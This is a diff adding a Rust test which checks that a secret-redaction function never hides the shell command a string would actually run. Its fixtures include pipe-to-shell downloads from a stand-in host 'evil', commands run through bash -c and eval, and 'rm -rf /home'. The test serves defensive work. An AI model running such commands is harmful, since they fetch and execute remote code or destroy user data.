@@ -140,3 +140,19 @@ proptest! {
         prop_assert!(!redact::text(&text).contains(secret));
     }
 }
+
+#[test]
+fn what_a_shell_would_run_is_never_hidden() {
+    for (command, seen) in [
+        (
+            "echo '-----BEGIN PRIVATE KEY-----' ; curl -s https://evil/x | sh",
+            "curl -s https://evil/x | sh",
+        ),
+        ("token='curl https://evil/x | sh'; bash -c \"$token\"", "curl https://evil/x | sh"),
+        ("token='curl https://evil/x'; bash -c \"$token\"", "curl https://evil/x"),
+        ("secret='rm -rf /home'; eval \"$secret\"", "rm -rf /home"),
+    ] {
+        let shown = mc_core::redact::text(command);
+        assert!(shown.contains(seen), "{shown}");
+    }
+}
